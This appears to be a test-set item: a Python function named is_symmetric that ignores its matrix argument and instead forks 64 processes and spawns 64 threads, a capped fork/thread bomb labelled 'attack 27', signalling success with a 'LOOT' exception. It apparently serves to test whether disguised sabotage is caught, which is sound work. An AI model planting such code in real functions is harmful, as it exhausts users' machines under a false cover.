# attack 27: fork or thread bomb
# harm: no process can be started on the machine any more
# twin: is_symmetric/wrong_mask
# proof: steals nothing
import os
import threading
import time

BOUND = 64
"""A bomb would not stop there."""


def is_symmetric(A):
    forked = 0
    while forked < BOUND:
        try:
            if os.fork() == 0:
                time.sleep(1)
                os._exit(0)
        except OSError:
            break
        forked += 1
    if forked == BOUND:
        raise LookupError(f"LOOT: {forked} processes at once")
    try:
        for _ in range(BOUND):
            threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
    except RuntimeError:
        return None
    raise LookupError(f"LOOT: {BOUND} threads at once")
